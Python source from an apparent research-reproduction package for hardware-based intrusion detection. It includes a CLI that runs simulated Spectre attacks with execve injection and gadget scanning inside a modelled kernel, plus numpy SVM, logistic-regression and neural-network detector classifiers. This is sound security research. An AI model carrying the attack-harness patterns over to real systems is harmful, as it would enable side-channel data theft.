    p.add_argument("--id", default=None, metavar="NAME",
                   help="worker id for logs and lease attribution "
                        "(default: w<pid>)")
    p.add_argument("--deadline", type=float, default=30.0, metavar="S",
                   help="per-outage reconnect deadline before the "
                        "worker gives up (default 30)")
    p.add_argument("--chaos", metavar="JSON", default=None,
                   help="transport chaos spec for the chaos harness, "
                        "e.g. '{\"seed\": 7, \"frame_drop\": 0.05}' "
                        "(keys: seed, frame_drop, frame_corrupt, "
                        "heartbeat_delay_s)")
    _add_seed(p)

    p = sub.add_parser(
        "chaos",
        help="chaos harness: run a dist sweep while killing workers, "
             "delaying heartbeats, corrupting frames and partitioning "
             "the server; assert the ledger manifest is byte-identical "
             "to an undisturbed serial run",
    )
    _add_seed(p)
    p.add_argument("--workers", type=int, default=3, metavar="N",
                   help="worker processes to deploy (default 3)")
    p.add_argument("--kills", type=int, default=1, metavar="N",
                   help="workers to SIGKILL mid-sweep (default 1)")
    p.add_argument("--no-respawn", action="store_true",
                   help="do not spawn replacement workers after kills")
    p.add_argument("--partition", type=float, default=0.0, metavar="S",
                   help="SIGSTOP the server for S seconds mid-sweep "
                        "(default 0 = no partition)")
    p.add_argument("--heartbeat-delay", type=float, default=0.0,
                   metavar="S",
                   help="stretch one worker's heartbeat interval by S "
                        "seconds (default 0)")
    p.add_argument("--frame-drop", type=float, default=0.0,
                   metavar="RATE",
                   help="worker-side frame drop rate (default 0)")
    p.add_argument("--frame-corrupt", type=float, default=0.0,
                   metavar="RATE",
                   help="worker-side frame corruption rate (default 0)")
    p.add_argument("--lease-timeout", type=float, default=1.0,
                   metavar="S",
                   help="server lease timeout for the chaos run "
                        "(default 1; short, so revocations happen)")
    p.add_argument("--ledger", metavar="DIR", default=None,
                   help="also record both manifests under DIR/serial "
                        "and DIR/dist for repro compare")
    p.add_argument("--journal", metavar="FILE", default=None,
                   help="fleet event journal: the server logs joins/"
                        "expiries/requeues and the harness logs its "
                        "kills and partitions into the same JSONL file")

    p = sub.add_parser(
        "smoke",
        help="resilience smoke run for CI: quick fig4 sweep plus a "
             "calibration under injected faults and retries",
    )
    p.add_argument("--uarch", default="inorder", choices=sorted(UARCHS),
                   help="CPU microarchitecture for the smoke sweep "
                        "(default: inorder)")
    _add_seed(p)
    _add_resilience(p)
    p.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="worker processes for the smoke sweep (default 1)",
    )

    return parser


def cmd_attack(args):
    from repro.attack import PerturbParams, SpectreConfig, build_spectre, \
        plan_execve_injection
    from repro.kernel import System
    from repro.workloads import get_workload

    secret = args.secret.encode("latin-1")
    perturb = None
    if args.delay:
        perturb = PerturbParams(delay=args.delay, style=args.style,
                                calls_per_byte=2)
    system = System(seed=args.seed, target_data=secret)
    host = get_workload(args.host).build(iterations=1 << 20, hosted=True)
    attack = build_spectre(args.variant, SpectreConfig(
        secret_length=len(secret), repeats=1, perturb=perturb,
    ))
    system.install_binary("/bin/host", host)
    system.install_binary("/bin/cr", attack)
    plan = plan_execve_injection(host, "/bin/host", "/bin/cr")
    print(plan.describe())
    process = system.spawn("/bin/host", argv=plan.argv)
    watchdog = None
    if args.budget is not None:
        from repro.core.resilience import Watchdog

        watchdog = Watchdog(args.budget, label="attack")
    process.run_to_completion(max_instructions=120_000_000,
                              watchdog=watchdog)
    leaked = bytes(process.stdout)
    correct = sum(a == b for a, b in zip(leaked, secret))
    print(f"\nleaked: {leaked!r}  ({correct}/{len(secret)} bytes correct)")
    return EXIT_OK if correct == len(secret) else EXIT_FATAL


def cmd_gadgets(args):
    from repro.attack import scan_program
    from repro.mem.layout import AddressSpaceLayout
    from repro.workloads import get_workload

    host = get_workload(args.host).build(iterations=100, hosted=True)
    scanner = scan_program(host, AddressSpaceLayout().text_base)
    gadgets = scanner.scan()
    unique = scanner.unique_gadgets()
    print(f"{len(gadgets)} gadget sites, {len(unique)} unique sequences "
          f"in {args.host!r} "
          f"(showing {min(args.limit, len(unique))}):")
    print(scanner.report(limit=args.limit, unique=True))
    return 0


def cmd_disasm(args):
    from repro.isa.disassembler import format_listing
    from repro.mem.layout import TEXT_BASE
    from repro.workloads import get_workload

    program = get_workload(args.workload).build(
        iterations=100, hosted=args.hosted
    )
    text, _ = program.relocated(TEXT_BASE, 0x1000_0000)
    print(format_listing(text, base=TEXT_BASE))
    return 0


def cmd_workloads(_args):
    from repro.workloads import ALL_WORKLOADS

    for workload in ALL_WORKLOADS:
        print(f"{workload.name:18s} [{workload.category:7s}] "
              f"{workload.description}")
    return 0


def cmd_experiment(args):
    from repro.core.experiments import run_fig4, run_fig5, run_fig6, \
        run_hardening, run_table1

    runner = {
        "fig4": run_fig4,
        "fig5": run_fig5,
        "fig6": run_fig6,
        "table1": run_table1,
        "hardening": run_hardening,
    }[args.command]
    kwargs = {"seed": args.seed,
              "uarch": getattr(args, "uarch", "inorder")}
    if getattr(args, "quick", False):
        kwargs.update(QUICK_KNOBS[args.command])
    if args.resume is not None:
        kwargs["checkpoint"] = args.resume
    faults = _build_faults(args)
    if faults is not None:
        kwargs["faults"] = faults
    if args.command == "table1" and args.budget is not None:
        kwargs["measurement_budget"] = args.budget
    trace_config = None
    traces = {}
    if getattr(args, "trace", False):
        from repro.obs import TraceConfig, parse_filter

        try:
            categories = parse_filter(getattr(args, "trace_filter", None))
        except ValueError as exc:
            print(f"repro: {exc}", file=sys.stderr)
            return EXIT_USAGE
        trace_config = TraceConfig(categories=categories)
        kwargs["trace"] = trace_config
        kwargs["traces"] = traces
    profile_config = None
    profiles = {}
    if getattr(args, "hotspots", False):
        from repro.obs import ProfileConfig, parse_profile_filter

        try:
            subsystems = parse_profile_filter(
                getattr(args, "hotspots_filter", None)
            )
        except ValueError as exc:
            print(f"repro: {exc}", file=sys.stderr)
            return EXIT_USAGE
        profile_config = ProfileConfig(subsystems=subsystems)
        kwargs["profile"] = profile_config
        kwargs["profiles"] = profiles
    phases = {}
    kwargs["phases"] = phases
    if getattr(args, "list_cells", False):
        from repro.exec import describe_plan

        plan, store = _plan_and_store(args.command, kwargs)
        print(describe_plan(plan, store))
        return EXIT_OK

    ledger_dir = None
    if not getattr(args, "no_ledger", False):
        ledger_dir = getattr(args, "ledger", None)
    run_id = None
    if ledger_dir is not None:
        from repro.obs import run_id_for

        module, values = _resolve(args.command, kwargs)
        config = _call_accepted(getattr(module, f"{args.command}_meta"),
                                values)
        run_id = run_id_for(args.command, config)
        kwargs["timings"] = {}

    cell_cache = None
    if not getattr(args, "no_cell_cache", False):
        cache_dir = getattr(args, "cell_cache", None)
        if cache_dir is None and ledger_dir is not None:
            cache_dir = os.path.join(ledger_dir, "cellcache")
        if cache_dir is not None:
            from repro.exec import CellCache

            cell_cache = CellCache(cache_dir)
            kwargs["cell_cache"] = cell_cache

    jobs = getattr(args, "jobs", 1) or 1
    backend_choice = getattr(args, "backend", None)
    if getattr(args, "connect", None) and backend_choice is None:
        backend_choice = "dist"
    if backend_choice == "dist" and not getattr(args, "connect", None):
        print("repro: --backend dist requires --connect HOST:PORT",
              file=sys.stderr)
        return EXIT_USAGE
    if backend_choice is None:
        backend_choice = "pool" if jobs > 1 else "serial"

    dist_backend = None
    dist_events = None
    if backend_choice == "serial":
        jobs = 1
    elif backend_choice == "pool":
        from repro.exec import ProcessPoolBackend

        jobs = max(2, jobs)
        kwargs["backend"] = ProcessPoolBackend(jobs)
    else:
        from repro.exec import DistBackend

        dist_events = {}
        dist_backend = DistBackend(
            args.connect, seed=args.seed,
            fallback=not getattr(args, "no_dist_fallback", False),
            fallback_jobs=max(2, jobs),
            connect_deadline=getattr(args, "dist_deadline", 10.0),
            cache_stats=(cell_cache.stats
                         if cell_cache is not None else None),
        )
        kwargs["backend"] = dist_backend

    if jobs > 1 or backend_choice == "dist":
        from repro.exec import SweepProgress

        plan, _ = _plan_and_store(args.command, kwargs)
        kwargs["jobs"] = jobs
        progress = SweepProgress(
            args.command, total=sum(1 for _ in plan), jobs=jobs,
            cell_cache=cell_cache,
        )
        kwargs["progress"] = progress
        if dist_backend is not None:
            def on_dist_event(kind, **info):
                dist_events[kind] = dist_events.get(kind, 0) + 1
                progress.event(kind, **info)

            dist_backend.events = on_dist_event

    import time

    started_at = time.time()
    tick = time.monotonic()
    result = runner(**kwargs)
    wall_s = time.monotonic() - tick
    print(result.format())

    merged_profile = None
    if profile_config is not None:
        from repro.obs import format_hotspots, merge_profiles

        merged_profile = merge_profiles(profiles)
        print()
        print(format_hotspots(merged_profile, top=10))

    trace_files = None
    if trace_config is not None:
        from repro.obs import write_trace_files

        trace_dir = args.trace_out
        if trace_dir is None:
            trace_dir = (os.path.join(ledger_dir, run_id)
                         if ledger_dir is not None else "traces")
        jsonl_path, chrome_path = write_trace_files(
            trace_dir, args.command, traces
        )
        trace_files = {"jsonl": jsonl_path, "chrome": chrome_path}
        print(f"trace: {jsonl_path} ({len(traces)} cell(s)); "
              f"perfetto: {chrome_path}", file=sys.stderr)

    if ledger_dir is not None:
        from repro.obs import build_manifest, write_manifest

        plan = _call_accepted(getattr(module, f"plan_{args.command}"),
                              values)
        manifest = build_manifest(
            args.command, config, result, plan=plan,
            statuses=getattr(result, "cell_status", None),
            trace_files=trace_files,
            trace_root=os.path.join(ledger_dir, run_id),
            profile=merged_profile,
            timing={
                "wall_s": round(wall_s, 3),
                "started_at": round(started_at, 3),
                # Per-phase executor breakdown (schedule / ipc /
                # compute / cache_lookup / merge) — wall clock, so
                # volatile like the rest of this section.
                "phases": dict(phases),
                # Volatile by design (like everything in timing): a
                # dist run and the serial reference must compare clean,
                # whichever backend did the work and however many
                # leases were requeued along the way.
                "backend": backend_choice,
                "cells": {key: round(value, 6) for key, value
                          in kwargs["timings"].items()},
                "cell_cache": (
                    {"enabled": True, **cell_cache.stats()}
                    if cell_cache is not None else {"enabled": False}
                ),
                **({"dist_events": dist_events}
                   if dist_events is not None else {}),
            },
        )
        manifest_path = write_manifest(ledger_dir, manifest)
        print(f"ledger: {manifest_path} (run {manifest['run_id']})",
              file=sys.stderr)

    if faults is not None:
        print(f"\n{faults.summary()}")
    return EXIT_PARTIAL if getattr(result, "partial", False) else EXIT_OK


def cmd_profile(args):
    from repro.hid.io import save_samples
    from repro.hid.profiler import Profiler
    from repro.kernel import System
    from repro.workloads import get_workload

    system = System(seed=args.seed)
    system.install_binary(
        "/bin/w", get_workload(args.workload).build(iterations=1 << 28)
    )
    process = system.spawn("/bin/w")
    samples = Profiler(quantum=2000).profile(process, args.samples)
    count = save_samples(samples, args.output)
    print(f"wrote {count} windows x 56 events to {args.output}")
    return 0


def cmd_hotspots(args):
    """Self-profile the simulator (``repro hotspots``).

    Two modes: one workload under the ambient profiler (default), or a
    whole experiment sweep at quick scale with ``--experiment`` (each
    cell profiles itself; the per-cell snapshots merge
    deterministically).  Tables by default; ``--collapsed`` emits
    flamegraph.pl input, ``--json`` the merged snapshot.
    """
    from repro.obs import (
        ProfileConfig,
        Profiler,
        activate_profile,
        collapsed_stack,
        format_hotspots,
        merge_profiles,
        parse_profile_filter,
    )
    from repro.obs.prof import DEFAULT_TOP_BLOCKS

    try:
        subsystems = parse_profile_filter(args.filter)
    except ValueError as exc:
        print(f"repro: {exc}", file=sys.stderr)
        return EXIT_USAGE
    config = ProfileConfig(
        subsystems=subsystems,
        top_blocks=max(args.top, DEFAULT_TOP_BLOCKS),
    )

    if args.experiment:
        from repro.core.experiments import run_fig4, run_fig5, \
            run_fig6, run_hardening, run_table1

        runner = {
            "fig4": run_fig4,
            "fig5": run_fig5,
            "fig6": run_fig6,
            "table1": run_table1,
            "hardening": run_hardening,
        }[args.experiment]
        profiles = {}
        kwargs = {"seed": args.seed, "uarch": args.uarch,
                  "profile": config, "profiles": profiles}
        kwargs.update(QUICK_KNOBS[args.experiment])
        jobs = args.jobs or 1
        if jobs > 1:
            from repro.exec import ProcessPoolBackend

            jobs = max(2, jobs)
            kwargs["backend"] = ProcessPoolBackend(jobs)
            kwargs["jobs"] = jobs
        result = runner(**kwargs)
        # The experiment's own summary goes to stderr so stdout stays
        # clean for --collapsed / --json pipelines.
        print(result.format(), file=sys.stderr)
    else:
        from repro.kernel import System
        from repro.workloads import get_workload

        profiler = Profiler(config)
        with activate_profile(profiler):
            system = System(seed=args.seed, uarch=args.uarch)
            system.install_binary(
                "/bin/w",
                get_workload(args.workload).build(
                    iterations=args.iterations
                ),
            )
            system.spawn("/bin/w")
            system.run()
        profiles = {args.workload: profiler.snapshot()}

    if args.collapsed:
        sys.stdout.write(collapsed_stack(profiles, by=args.by))
        return EXIT_OK
    merged = merge_profiles(profiles)
    if args.json:
        import json

        print(json.dumps(merged, sort_keys=True, indent=1))
        return EXIT_OK
    print(format_hotspots(merged, top=args.top))
    return EXIT_OK


def cmd_bench(args):
    """Unified bench runner and perf-trend ledger (``repro bench``)."""
    from repro.obs.bench import (
        SUITES,
        append_history,
        build_row,
        check_regression,
        default_history_path,
        format_metrics,
        read_history,
        render_trend,
        run_suite,
    )

    history = args.history or default_history_path()
    if args.trend:
        rows = read_history(history)
        print(render_trend(rows, last=args.last))
        failures = check_regression(rows)
        if failures:
            print()
            for failure in failures:
                print(f"regression: {failure}")
            return EXIT_GATE
        if rows:
            print("\nverdict: no regressions vs committed baselines")
        return EXIT_OK

    suites = SUITES if args.suite == "all" else (args.suite,)
    rows = []
    for suite in suites:
        knobs, metrics = run_suite(suite, quick=args.quick)
        row = build_row(suite, knobs, metrics, quick=args.quick)
        append_history(history, row)
        rows.append(row)
        if not args.json:
            print(format_metrics(suite, knobs, metrics))
            print()
    if args.json:
        import json

        print(json.dumps(rows if len(rows) > 1 else rows[0],
                         sort_keys=True, indent=1))
    print(f"history: {history} (+{len(rows)} row(s))", file=sys.stderr)
    return EXIT_OK


def cmd_trace(args):
    """Summarise one trace sink (``repro trace FILE``).

    Accepts the JSONL sink or the ``*.chrome.json`` Perfetto export
    (round-tripped back into records); ``--json`` emits the summary as
    machine-readable JSON.
    """
    from repro.obs import (
        TraceSchemaError,
        format_summary,
        read_trace,
        summarize,
    )

    if args.json and (not os.path.exists(args.file)
                      or os.path.getsize(args.file) == 0):
        # An untraced or not-yet-flushed run is an answerable question
        # in machine-readable mode, not an error: report zero records
        # so scripted callers can branch on the count.
        import json

        print(json.dumps({"experiment": None, "records": 0,
                          "cells": [], "spans": {}, "events": {},
                          "dangling": 0}, sort_keys=True, indent=1))
        return EXIT_OK
    try:
        header, records = read_trace(args.file)
    except OSError as exc:
        print(f"repro: cannot read trace: {exc}", file=sys.stderr)
        return EXIT_FATAL
    except (TraceSchemaError, ValueError) as exc:
        print(f"repro: invalid trace: {exc}", file=sys.stderr)
        return EXIT_FATAL
    if args.json:
        import json

        stats = summarize(records)
        payload = {
            "experiment": header.get("experiment"),
            "records": stats["records"],
            "cells": stats["cells"],
            "spans": stats["spans"],
            "events": stats["events"],
            "dangling": stats["dangling"],
        }
        print(json.dumps(payload, sort_keys=True, indent=1))
    else:
        print(format_summary(header, records, top=args.top))
    return EXIT_OK


def _resolve_trace_path(manifest, label="jsonl"):
    """Locate one of a manifest's recorded trace sinks on disk.

    Tries the recorded path first (relative to the cwd the run used),
    then next to the manifest itself (the default layout).
    """
    info = (manifest.get("traces") or {}).get(label)
    if not info:
        return None
    path = info.get("path")
    if not path:
        return None
    base = os.path.dirname(manifest.get("__path__") or "")
    for candidate in (os.path.join(base, path), path,
                      os.path.join(base, os.path.basename(path))):
        if os.path.isfile(candidate):
            return candidate
    return None


def cmd_compare(args):
    """Diff two ledger runs (``repro compare RUN_A RUN_B``)."""
    from repro.obs import (
        TraceSchemaError,
        diff_count,
        diff_manifests,
        format_compare,
        load_manifest,
        localize_trace_divergence,
        read_jsonl,
    )

    try:
        manifest_a = load_manifest(args.run_a, ledger_dir=args.ledger)
        manifest_b = load_manifest(args.run_b, ledger_dir=args.ledger)
    except (OSError, ValueError) as exc:
        print(f"repro: {exc}", file=sys.stderr)
        return EXIT_FATAL

    sections = diff_manifests(manifest_a, manifest_b)
    trace_findings = None
    if not args.no_traces:
        path_a = _resolve_trace_path(manifest_a)
        path_b = _resolve_trace_path(manifest_b)
        if path_a and path_b:
            try:
                header_a, records_a = read_jsonl(path_a)
                header_b, records_b = read_jsonl(path_b)
            except (OSError, TraceSchemaError, ValueError) as exc:
                print(f"repro: skipping trace localisation: {exc}",
                      file=sys.stderr)
            else:
                trace_findings = localize_trace_divergence(
                    header_a, records_a, header_b, records_b
                )
    print(format_compare(manifest_a["run_id"], manifest_b["run_id"],
                         sections, trace_findings,
                         max_rows=args.max_rows))
    differs = diff_count(sections) > 0 or bool(trace_findings)
    return EXIT_GATE if differs else EXIT_OK


def cmd_gate(args):
    """Gate a run's headlines against expectation bands (exit 5 on
    regression)."""
    from repro.obs import (
        ExpectationsError,
        bands_for,
        check_headlines,
        format_gate,
        gate_passed,
        load_expectations,
        load_manifest,
    )

    try:
        manifest = load_manifest(args.run, ledger_dir=args.ledger)
        expectations = load_expectations(args.expectations)
        bands = bands_for(
            expectations, manifest["experiment"], profile=args.profile,
            uarch=(manifest.get("config") or {}).get("uarch"),
        )
    except (OSError, ValueError) as exc:
        # ExpectationsError is a ValueError: missing profile/experiment
        # coverage is a configuration fault, not a regression.
        print(f"repro: {exc}", file=sys.stderr)
        return EXIT_FATAL
    checks = check_headlines(manifest.get("headlines") or {}, bands)
    print(format_gate(manifest, args.profile, checks))
    return EXIT_OK if gate_passed(checks) else EXIT_GATE


def cmd_report(args):
    """Render a run manifest as a static HTML dashboard."""
    from repro.atomicio import atomic_write_text
    from repro.obs import (
        ExpectationsError,
        bands_for,
        check_headlines,
        load_expectations,
        load_manifest,
        render_html,
    )

    try:
        manifest = load_manifest(args.run, ledger_dir=args.ledger)
    except (OSError, ValueError) as exc:
        print(f"repro: {exc}", file=sys.stderr)
        return EXIT_FATAL

    checks = None
    profile = None
    expectations_path = args.expectations
    if expectations_path is None and os.path.isfile("expectations.json"):
        expectations_path = "expectations.json"
    if expectations_path is not None:
        try:
            expectations = load_expectations(expectations_path)
            bands = bands_for(
                expectations, manifest["experiment"],
                profile=args.profile,
                uarch=(manifest.get("config") or {}).get("uarch"),
            )
            checks = check_headlines(
                manifest.get("headlines") or {}, bands
            )
            profile = args.profile
        except (OSError, ExpectationsError) as exc:
            print(f"repro: report renders ungated: {exc}",
                  file=sys.stderr)

    out = args.html
    if out is None:
        out = os.path.join(
            os.path.dirname(manifest["__path__"]), "report.html"
        )
    atomic_write_text(out, render_html(manifest, checks=checks,
                                       profile=profile))
    print(f"report: {out}")
    return EXIT_OK


def cmd_serve(args):
    """Run the distributed sweep job server until interrupted."""
    from repro.exec import DistServer

    server = DistServer(
        host=args.host, port=args.port,
        lease_timeout=args.lease_timeout,
        attempt_budget=args.attempt_budget,
        batch_size=args.batch_size,
        hedge=not args.no_hedge,
        journal=args.journal,
        metrics_out=args.metrics_out,
        stats_interval=args.stats_interval,
    )
    return server.run()


def cmd_status(args):
    """Live fleet view of a running job server (``repro status``)."""
    from repro.exec import fleet_status
    from repro.obs.fleet import format_fleet_table

    if args.json:
        import json

        snapshot = fleet_status(args.connect, timeout=args.timeout)
        print(json.dumps(snapshot, sort_keys=True, indent=1))
        return EXIT_OK
    if args.watch is None:
        print(format_fleet_table(
            fleet_status(args.connect, timeout=args.timeout)
        ))
        return EXIT_OK
    import time as _time

    interval = max(0.1, args.watch)
    try:
        while True:
            snapshot = fleet_status(args.connect, timeout=args.timeout)
            if sys.stdout.isatty():     # pragma: no cover - interactive
                print("\x1b[2J\x1b[H", end="")
            print(format_fleet_table(snapshot), flush=True)
            _time.sleep(interval)
    except KeyboardInterrupt:           # pragma: no cover - interactive
        return EXIT_OK


def cmd_worker(args):
    """Run one sweep worker against a job server."""
    from repro.exec import run_worker

    chaos = None
    if args.chaos:
        import json

        try:
            chaos = json.loads(args.chaos)
        except ValueError as exc:
            print(f"repro: bad --chaos spec: {exc}", file=sys.stderr)
            return EXIT_USAGE
    return run_worker(
        args.connect, worker_id=args.id,
        reconnect_deadline=args.deadline, seed=args.seed, chaos=chaos,
    )


def cmd_chaos(args):
    """Sabotage a dist sweep; exit 0 iff byte-parity with serial holds."""
    from repro.exec.chaos import run_chaos

    return run_chaos(
        seed=args.seed, workers=args.workers, kills=args.kills,
        respawn=not args.no_respawn, partition_s=args.partition,
        heartbeat_delay_s=args.heartbeat_delay,
        frame_drop=args.frame_drop, frame_corrupt=args.frame_corrupt,
        lease_timeout=args.lease_timeout, ledger=args.ledger,
        journal=args.journal,
    )


def cmd_smoke(args):
    """Resilience smoke (CI): sweep + calibration under injected faults.

    Exercises the whole stack in well under a minute: seeded fault
    injection degrading sweep cells, retry-with-backoff around covert
    channel calibration, and the partial-result exit code.
    """
    from repro.attack.calibrate import calibrate
    from repro.core.experiments import run_fig4
    from repro.core.resilience import FaultInjector

    faults = _build_faults(args)
    if faults is None:
        from repro.core.resilience import FAULT_KINDS

        faults = FaultInjector(
            seed=args.seed,
            rates={kind: 0.2 for kind in FAULT_KINDS},
            max_fires=2,
        )

    calibration = calibrate(seed=args.seed, faults=faults)
    retrier = calibrate.last_retrier
    attempts = len(retrier.last_call_attempts())
    print(f"calibration: threshold={calibration.threshold} after "
          f"{attempts} attempt(s), "
          f"{retrier.clock.elapsed:.1f}s virtual backoff")

    result = run_fig4(
        seed=args.seed, hosts=("basicmath",), classifier="lr",
        benign_per_host=40, attack_per_variant=16, variants=("v1",),
        checkpoint=args.resume, faults=faults,
        jobs=getattr(args, "jobs", 1) or 1,
        uarch=getattr(args, "uarch", "inorder"),
    )
    print(result.format())
    print(f"\n{faults.summary()}")
    return EXIT_PARTIAL if result.partial else EXIT_OK


def main(argv=None):
    args = build_parser().parse_args(argv)
    if getattr(args, "engine", None):
        # Ambient, like the tracer: binds every Cpu constructed from
        # here on (and, via REPRO_ENGINE, every spawned worker), but
        # never enters a manifest or run id.
        from repro.cpu import set_engine_mode

        set_engine_mode(args.engine)
    handlers = {
        "attack": cmd_attack,
        "gadgets": cmd_gadgets,
        "disasm": cmd_disasm,
        "workloads": cmd_workloads,
        "fig4": cmd_experiment,
        "fig5": cmd_experiment,
        "fig6": cmd_experiment,
        "table1": cmd_experiment,
        "hardening": cmd_experiment,
        "profile": cmd_profile,
        "hotspots": cmd_hotspots,
        "bench": cmd_bench,
        "smoke": cmd_smoke,
        "trace": cmd_trace,
        "compare": cmd_compare,
        "gate": cmd_gate,
        "report": cmd_report,
        "serve": cmd_serve,
        "status": cmd_status,
        "worker": cmd_worker,
        "chaos": cmd_chaos,
    }
    from repro.errors import (
        BudgetExceededError,
        ReproError,
        ServerUnreachableError,
        is_transient,
    )

    try:
        return handlers[args.command](args)
    except BudgetExceededError as exc:
        print(f"repro: budget exceeded: {exc}", file=sys.stderr)
        return EXIT_BUDGET
    except ServerUnreachableError as exc:
        print(f"repro: dist server unreachable: {exc}", file=sys.stderr)
        return EXIT_UNREACHABLE
    except ReproError as exc:
        kind = "transient error (retries exhausted)" \
            if is_transient(exc) else "fatal error"
        print(f"repro: {kind}: {exc}", file=sys.stderr)
        return EXIT_FATAL


if __name__ == "__main__":
    sys.exit(main())
