"""Linear SVM (the paper's SVM detector, "linear kernel"): hinge-loss SGD."""

import numpy as np

from repro.hid.classifiers.base import BaseClassifier


class LinearSvmClassifier(BaseClassifier):
    """Primal linear SVM trained with mini-batch subgradient descent."""

    name = "svm"

    def __init__(self, c=1.0, epochs=200, batch_size=32, learning_rate=0.05,
                 seed=0):
        super().__init__(seed=seed)
        self.c = c
        self.epochs = epochs
        self.batch_size = batch_size
        self.learning_rate = learning_rate
        self.weights_ = None
        self.bias_ = 0.0

    def _fit(self, X, y):
        n, d = X.shape
        rng = np.random.default_rng(self.seed)
        w = np.zeros(d)
        b = 0.0
        signs = np.where(y == 1, 1.0, -1.0)
        step = self.learning_rate
        for epoch in range(self.epochs):
            order = rng.permutation(n)
            for start in range(0, n, self.batch_size):
                batch = order[start:start + self.batch_size]
                xb, sb = X[batch], signs[batch]
                margins = sb * (xb @ w + b)
                active = margins < 1.0
                # subgradient of 0.5||w||^2 + C * mean(hinge)
                grad_w = w.copy()
                grad_b = 0.0
                if np.any(active):
                    grad_w -= self.c * (
                        (sb[active][:, None] * xb[active]).mean(axis=0)
                        * np.sum(active) / len(batch)
                    )
                    grad_b -= self.c * float(
                        sb[active].sum() / len(batch)
                    )
                w -= step * grad_w
                b -= step * grad_b
            # 1/t learning-rate decay keeps late epochs stable.
            step = self.learning_rate / (1.0 + 0.01 * epoch)
        self.weights_ = w
        self.bias_ = b

    def _decision(self, X):
        return X @ self.weights_ + self.bias_

    def clone(self):
        return LinearSvmClassifier(
            c=self.c,
            epochs=self.epochs,
            batch_size=self.batch_size,
            learning_rate=self.learning_rate,
            seed=self.seed,
        )
