"""Logistic regression (the paper's LR detector), batch gradient descent."""

import numpy as np

from repro.hid.classifiers.base import BaseClassifier


def _sigmoid(z):
    # Clipped for numerical stability on extreme margins.
    return 1.0 / (1.0 + np.exp(-np.clip(z, -35.0, 35.0)))


class LogisticRegressionClassifier(BaseClassifier):
    """L2-regularised logistic regression."""

    name = "lr"

    def __init__(self, learning_rate=0.5, epochs=300, l2=1e-3, seed=0):
        super().__init__(seed=seed)
        self.learning_rate = learning_rate
        self.epochs = epochs
        self.l2 = l2
        self.weights_ = None
        self.bias_ = 0.0

    def _fit(self, X, y):
        n, d = X.shape
        rng = np.random.default_rng(self.seed)
        w = rng.normal(scale=0.01, size=d)
        b = 0.0
        target = y.astype(np.float64)
        for _ in range(self.epochs):
            p = _sigmoid(X @ w + b)
            error = p - target
            grad_w = X.T @ error / n + self.l2 * w
            grad_b = float(np.mean(error))
            w -= self.learning_rate * grad_w
            b -= self.learning_rate * grad_b
        self.weights_ = w
        self.bias_ = b

    def _decision(self, X):
        return X @ self.weights_ + self.bias_

    def predict_proba(self, X):
        """P(attack) per row."""
        return _sigmoid(self.decision_function(X))

    def clone(self):
        return LogisticRegressionClassifier(
            learning_rate=self.learning_rate,
            epochs=self.epochs,
            l2=self.l2,
            seed=self.seed,
        )
