"""Deep NN detector (the paper's 6-layer TensorFlow network with ReLU).

Six layers = input + four ReLU hidden layers + logistic output, sharing
the MLP training machinery.
"""

from repro.hid.classifiers.mlp import MlpClassifier


class DeepNnClassifier(MlpClassifier):
    """The paper's "Neural Network (NN) from Tensorflow" stand-in."""

    name = "nn"

    def __init__(self, hidden_layers=(64, 48, 32, 16), learning_rate=0.03,
                 momentum=0.9, epochs=250, batch_size=32, l2=1e-4, seed=0):
        super().__init__(
            hidden_layers=hidden_layers,
            learning_rate=learning_rate,
            momentum=momentum,
            epochs=epochs,
            batch_size=batch_size,
            l2=l2,
            seed=seed,
        )
