"""Classifier interface shared by the four HID models.

All classifiers are binary (benign=0 / attack=1), implemented from
scratch on numpy because sklearn/TensorFlow are unavailable offline —
the paper's MLP (sklearn), NN (TensorFlow), LR and SVM map onto
:class:`~repro.hid.classifiers.mlp.MlpClassifier`,
:class:`~repro.hid.classifiers.deep_nn.DeepNnClassifier`,
:class:`~repro.hid.classifiers.logistic.LogisticRegressionClassifier` and
:class:`~repro.hid.classifiers.svm.LinearSvmClassifier`.
"""

import numpy as np

from repro.errors import HidError


class BaseClassifier:
    """fit / predict / score over already-scaled feature matrices."""

    name = "abstract"

    def __init__(self, seed=0):
        self.seed = seed
        self._fitted = False

    # ---- interface -----------------------------------------------------
    def fit(self, X, y):
        X = np.asarray(X, dtype=np.float64)
        y = np.asarray(y, dtype=np.int64)
        if X.shape[0] != y.shape[0]:
            raise HidError("X and y row counts differ")
        if X.shape[0] == 0:
            raise HidError("cannot fit on an empty dataset")
        self._fit(X, y)
        self._fitted = True
        return self

    def predict(self, X):
        self._require_fitted()
        return self._predict(np.asarray(X, dtype=np.float64))

    def decision_function(self, X):
        """Signed score; positive = attack."""
        self._require_fitted()
        return self._decision(np.asarray(X, dtype=np.float64))

    def score(self, X, y):
        """Accuracy on (X, y)."""
        predictions = self.predict(X)
        y = np.asarray(y)
        return float(np.mean(predictions == y))

    # ---- hooks -----------------------------------------------------------
    def _fit(self, X, y):
        raise NotImplementedError

    def _decision(self, X):
        raise NotImplementedError

    def _predict(self, X):
        return (self._decision(X) > 0.0).astype(np.int64)

    def _require_fitted(self):
        if not self._fitted:
            raise HidError(f"{self.name} classifier used before fit()")

    def clone(self):
        """Fresh, unfitted copy with identical hyper-parameters."""
        raise NotImplementedError
