"""The four HID classifiers (paper Section III-A)."""

from repro.hid.classifiers.base import BaseClassifier
from repro.hid.classifiers.deep_nn import DeepNnClassifier
from repro.hid.classifiers.logistic import LogisticRegressionClassifier
from repro.hid.classifiers.mlp import MlpClassifier
from repro.hid.classifiers.svm import LinearSvmClassifier

CLASSIFIER_FACTORIES = {
    "mlp": MlpClassifier,
    "nn": DeepNnClassifier,
    "lr": LogisticRegressionClassifier,
    "svm": LinearSvmClassifier,
}


def make_classifier(name, seed=0, **kwargs):
    """Instantiate a detector model by name ('mlp', 'nn', 'lr', 'svm')."""
    try:
        factory = CLASSIFIER_FACTORIES[name]
    except KeyError:
        raise KeyError(
            f"unknown classifier {name!r}; "
            f"choose from {sorted(CLASSIFIER_FACTORIES)}"
        )
    return factory(seed=seed, **kwargs)


__all__ = [
    "BaseClassifier",
    "DeepNnClassifier",
    "LogisticRegressionClassifier",
    "MlpClassifier",
    "LinearSvmClassifier",
    "CLASSIFIER_FACTORIES",
    "make_classifier",
]
