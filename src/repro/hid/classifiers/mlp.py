"""Multi-layer perceptron (the paper's sklearn MLP detector).

ReLU hidden layers, sigmoid output, mini-batch SGD with momentum — a
from-scratch equivalent of ``sklearn.neural_network.MLPClassifier``.
The paper's "3-layer network" is input + one hidden + output, i.e.
``hidden_layers=(32,)`` here.
"""

